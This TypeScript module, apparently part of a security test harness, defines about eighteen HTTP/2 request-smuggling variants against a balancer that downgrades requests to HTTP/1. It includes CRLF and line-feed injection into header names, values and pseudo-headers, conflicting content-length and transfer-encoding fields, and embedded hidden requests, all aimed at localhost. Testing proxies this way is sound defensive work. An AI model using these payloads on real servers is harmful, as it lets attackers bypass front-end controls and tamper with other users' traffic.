/** Request smuggling over HTTP/2, whose lengths and headers the balancer rewrites for HTTP/1. */
import { type Attack, request } from './hidden-requests.ts'
import { writeRequest } from './http2-frames.ts'

type Fields = readonly [string, string][]

/** `HIDDEN` stands for the other request, `LENGTH` for its length. */
const form =
  (more: Fields, body = '0\r\n\r\nHIDDEN', given: Readonly<Record<string, string>> = {}): Attack =>
  ({ outer, hidden }) => {
    const pseudo = { ':method': 'POST', ':scheme': 'http', ':path': '/capture-lead', ...given }
    const fields: Fields = [
      ...Object.entries({ ':authority': 'localhost', ...pseudo }),
      ['x-request-id', outer],
      ['content-type', 'application/x-www-form-urlencoded'],
      ...more,
    ]
    const next = request(hidden)
    const fill = (text: string) => text.replace('HIDDEN', next).replace('LENGTH', `${next.length}`)
    return writeRequest(
      fields.map(([name, value]) => [fill(name), fill(value)]),
      fill(body),
    )
  }

const line = ' HTTP/1.1\r\nHost: localhost\r\n\r\nHIDDEN'

/** The first one is valid. */
export const attacksByHttp2: Readonly<Record<string, Attack>> = {
  'a request as a body': form([], 'HIDDEN'),
  'a length of 0': form([['content-length', '0']], 'HIDDEN'),
  'a length that ends in the body': form([['content-length', '5']]),
  'two lengths': form([
    ['content-length', '0'],
    ['content-length', 'LENGTH'],
  ]),
  'a coding': form([['transfer-encoding', 'chunked']]),
  'a coding in a value': form([['x', 'a\r\ntransfer-encoding: chunked']]),
  'a coding behind a line feed': form([['x', 'a\ntransfer-encoding: chunked']]),
  'a coding in a name': form([['x: a\r\ntransfer-encoding', 'chunked']]),
  'a length in a value': form([['x', 'a\r\ncontent-length: 0']], 'HIDDEN'),
  'a request in a value': form([['x', 'a\r\n\r\nHIDDEN']]),
  'a request in a name': form([['x: a\r\n\r\nHIDDEN', 'a']]),
  'a request in the path': form([], '', { ':path': `/healthz${line}` }),
  'a request in the method': form([], '', { ':method': `GET /healthz${line}` }),
  'a request in the host': form([], '', { ':authority': 'localhost\r\n\r\nHIDDEN' }),
  'a request in the scheme': form([], '', { ':scheme': `http://localhost/${line}` }),
  'a blank in the path': form([], 'HIDDEN', { ':path': '/healthz HTTP/1.1' }),
  'a zero in a value': form([['x', 'a\0b']], 'HIDDEN'),
  'a field for this hop alone': form(
    [
      ['connection', 'content-length'],
      ['content-length', 'LENGTH'],
    ],
    'HIDDEN',
  ),
}
